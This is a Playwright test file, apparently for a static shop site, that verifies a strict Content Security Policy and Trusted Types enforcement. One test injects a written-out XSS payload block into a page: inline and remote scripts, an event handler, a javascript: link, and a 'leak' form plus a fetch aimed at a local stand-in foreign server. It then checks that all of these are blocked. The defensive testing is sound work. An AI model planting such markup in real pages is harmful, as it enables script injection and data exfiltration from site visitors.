import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { test as withHost } from '../fixtures/static-host.ts';
import { expect } from '../fixtures/shop.ts';

const DOCUMENTS = [
  'index.html',
  'products/index.html',
  'cart/index.html',
  'product.html',
  '404.html',
];

const test = withHost.extend<{ elsewhere: Elsewhere }>({
  // oxlint-disable-next-line no-empty-pattern -- the test runner reads what a fixture needs from its pattern
  elsewhere: async ({}, provide) => {
    const visits: string[] = [];
    const server = createServer((request, response) => {
      visits.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((done) => void server.listen(0, '127.0.0.1', done));
    const address = server.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    await provide({ origin: `http://127.0.0.1:${port}`, visits });
    server.close();
  },
});

/** A server of somebody else, and what was asked of it. */
interface Elsewhere {
  readonly origin: string;
  readonly visits: readonly string[];
}

/** The policy's directives by name. */
async function policyOf(page: Page, address: string): Promise<ReadonlyMap<string, string[]>> {
  const html = await (await page.request.get(address)).text();
  const [, policy = ''] = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html) ?? [];
  expect(html.indexOf(policy)).toBeLessThan(html.search(/<(?:script|style|link)/));
  return new Map(
    policy.split('; ').map((directive) => {
      const [name = '', ...sources] = directive.split(' ');
      return [name, sources];
    }),
  );
}

test(
  '[SAFE1] every document has the same strict policy',
  { tag: '@smoke' },
  async ({ page, host }) => {
    const [first, ...others] = await Promise.all(
      DOCUMENTS.map((file) => policyOf(page, host.url(file))),
    );
    for (const other of others) expect([...other]).toEqual([...(first ?? [])]);
    expect(first?.get('default-src')).toEqual([`'none'`]);
    expect(first?.get('base-uri')).toEqual([`'none'`]);
    expect(first?.get('form-action')).toEqual([`'self'`]);
    expect(first?.get('require-trusted-types-for')).toEqual([`'script'`]);
    const sources = [...(first ?? [])]
      .filter(([name]) => name.endsWith('-src'))
      .flatMap(([, s]) => s);
    for (const source of sources) expect(source).toMatch(/^'(?:none|self|sha256-[\w+/]{43}=)'$/);
  },
);

test.describe('an attack', () => {
  test.use({ expectedErrors: [/Content.Security.Policy|This document requires|violates/i] });

  test(
    '[SAFE2] what got into a page does not run, load or send',
    { tag: '@engines' },
    async ({ page, shop, host, elsewhere }) => {
      const { origin } = elsewhere;
      host.edit('index.html', (html) =>
        html.replace(
          '<div id="root"',
          `<div hidden>
          <script>document.documentElement.dataset.attack = 'script'</script>
          <script src="${origin}/script.js"></script>
          <img src="${host.url('favicon.svg')}" onload="document.documentElement.dataset.attack = 'handler'" alt="">
          <img src="${origin}/picture.png" alt="">
          <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" id="inline" alt="">
          <iframe src="${origin}/frame"></iframe>
          <object data="${origin}/object"></object>
          <link rel="stylesheet" href="${origin}/style.css">
          <base href="${origin}/">
        </div>
        <a id="trap" href="javascript:document.documentElement.dataset.attack='link'">trap</a>
        <p id="styled" style="position: fixed">styled</p>
        <style>#styled { position: absolute }</style>
        <form id="leak" action="${origin}/form"><button>leak</button></form>
        <div id="root"`,
        ),
      );
      await shop.open(host.url(''));
      await expect(shop.cards).toHaveCount(20);
      await expect(page.locator('#styled')).toHaveCSS('position', 'static');
      await expect(page.locator('#inline')).toHaveJSProperty('naturalWidth', 0);
      const blocked = await page.evaluate(async (url) => {
        const kinds = new Set<string>();
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          kinds.add(effectiveDirective),
        );
        document.querySelector<HTMLElement>('#trap')?.click();
        document.querySelector<HTMLElement>('#leak button')?.click();
        await fetch(`${url}/fetch`).catch(() => undefined);
        while (kinds.size < 3) await new Promise((done) => setTimeout(done, 20));
        return [...kinds].toSorted();
      }, origin);
      // The link is stopped by one directive or the other: engines ask them in different order.
      expect(blocked).toEqual(expect.arrayContaining(['connect-src', 'form-action']));
      expect(await page.evaluate(() => document.documentElement.dataset['attack'])).toBeUndefined();
      expect(elsewhere.visits).toEqual([]);
    },
  );

  test('[SAFE3] no text becomes the address or the text of a script', async ({
    page,
    shop,
    host,
  }) => {
    await shop.open(host.url(''));
    const refused = await page.evaluate(() => {
      const attempts: (() => unknown)[] = [
        () => (document.createElement('script').src = 'other.js'),
        () => (document.createElement('script').text = '1'),
        () => (document.createElement('div').innerHTML = '<b>bold</b>'),
        () => document.body.insertAdjacentHTML('beforeend', '<b>bold</b>'),
        () =>
          trustedTypes?.createPolicy('other', {
            createScriptURL: (url) => url,
            createScript: (text) => text,
          }),
      ];
      return attempts.map((attempt) => {
        try {
          attempt();
          return 'done';
        } catch (error) {
          return error instanceof TypeError ? 'refused' : String(error);
        }
      });
    });
    expect(refused).toEqual(refused.map(() => 'refused'));
  });
});
